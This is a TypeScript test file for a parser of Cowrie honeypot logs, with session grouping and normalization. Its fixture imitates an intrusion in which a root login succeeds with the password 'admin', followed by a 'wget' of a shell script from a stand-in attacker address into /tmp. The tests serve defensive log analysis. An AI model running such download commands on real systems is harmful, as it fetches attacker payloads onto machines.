import { expect, test } from 'vitest';
import { normalize } from '../normalize/normalize.ts';
import { Sessionizer } from '../sessionize/sessionizer.ts';
import { SHELL_SESSIONS } from '../sessionize/sessionizer-options.ts';
import { cowrieReader } from './cowrie.ts';

const COMMON = { src_ip: '203.0.113.9', session: '3e5a9212f1', sensor: 'trap-1', uuid: 'u', message: '' };
const T = Date.UTC(2020, 11, 8, 6, 28, 44);

function line(second: number, eventid: string, more: object = {}): string {
  const timestamp = new Date(T + second * 1000).toISOString().replace('Z', '000Z');
  return JSON.stringify({ eventid: `cowrie.${eventid}`, ...COMMON, timestamp, ...more });
}

const LINES = [
  line(0, 'session.connect', { src_port: 47631, dst_ip: '192.0.2.4', dst_port: 2222, protocol: 'ssh' }),
  line(0, 'client.version', { version: "b'SSH-2.0-libssh2_1.4.3'" }),
  line(0, 'client.kex', { hassh: 'abc' }),
  line(1, 'login.failed', { username: 'root', password: '' }),
  line(2, 'login.success', { username: 'root', password: 'admin' }),
  line(90, 'command.input', { input: 'cd /tmp; wget http://198.51.100.1/x.sh' }),
  line(90, 'command.failed', { input: 'cd /tmp; wget http://198.51.100.1/x.sh' }),
  line(91, 'session.file_download', { url: 'http://198.51.100.1/x.sh', shasum: 'b'.repeat(64) }),
  line(92, 'session.closed', { duration: 92.1 }),
];

test('a session from connect to close', () => {
  const reader = cowrieReader();
  const sessionizer = new Sessionizer({ source: 'cowrie.json', ...SHELL_SESSIONS });
  const ended = LINES.flatMap((text) => {
    const item = reader.read(text);
    if (!item.ok) throw new Error(item.error.message);
    return item.value?.kind === 'event' ? sessionizer.add(item.value.event) : [];
  });
  expect(ended).toHaveLength(1);
  expect(normalize(ended[0], { receivedAt: T + 100_000 })).toMatchObject({
    ok: true,
    value: {
      client: '203.0.113.9',
      clientPort: 47631,
      userAgent: 'SSH-2.0-libssh2_1.4.3',
      protocol: 'ssh',
      sensor: 'cowrie',
      sensorId: 'trap-1',
      startedAt: T,
      endedAt: T + 92_000,
      observationCount: 4,
      observations: [
        { kind: 'login', at: T + 1000, username: 'root', password: '', success: false },
        { kind: 'login', at: T + 2000, username: 'root', password: 'admin', success: true },
        { kind: 'command', input: 'cd /tmp; wget http://198.51.100.1/x.sh' },
        { kind: 'download', url: 'http://198.51.100.1/x.sh', sha256: 'b'.repeat(64) },
      ],
    },
  });
});

test('telnet says so', () => {
  const item = cowrieReader().read(line(0, 'session.connect', { protocol: 'telnet' }));
  expect(item).toMatchObject({ value: { event: { protocol: 'telnet', sessionId: '3e5a9212f1' } } });
});

test.each([
  ['{"src_ip":"192.0.2.1"}', 'missing_field', 'eventid'],
  ['{"eventid":"dionaea.connection"}', 'bad_value', 'eventid'],
  [line(0, 'login.failed', { username: null }), 'missing_field', 'username'],
  [line(0, 'login.failed', { username: ['root'] }), 'bad_value', 'username'],
  [line(0, 'command.input', {}), 'missing_field', 'input'],
  [line(0, 'session.file_download', {}), 'missing_field', 'url'],
  [line(0, 'session.closed', { src_ip: 'x' }), 'bad_value', 'src_ip'],
  [line(0, 'session.closed', { session: 9 }), 'bad_value', 'session'],
  [line(0, 'session.closed', { timestamp: 'x' }), 'bad_value', 'timestamp'],
])('%.60s', (text, kind, field) => {
  expect(cowrieReader().read(text)).toMatchObject({ ok: false, error: { kind, field } });
});
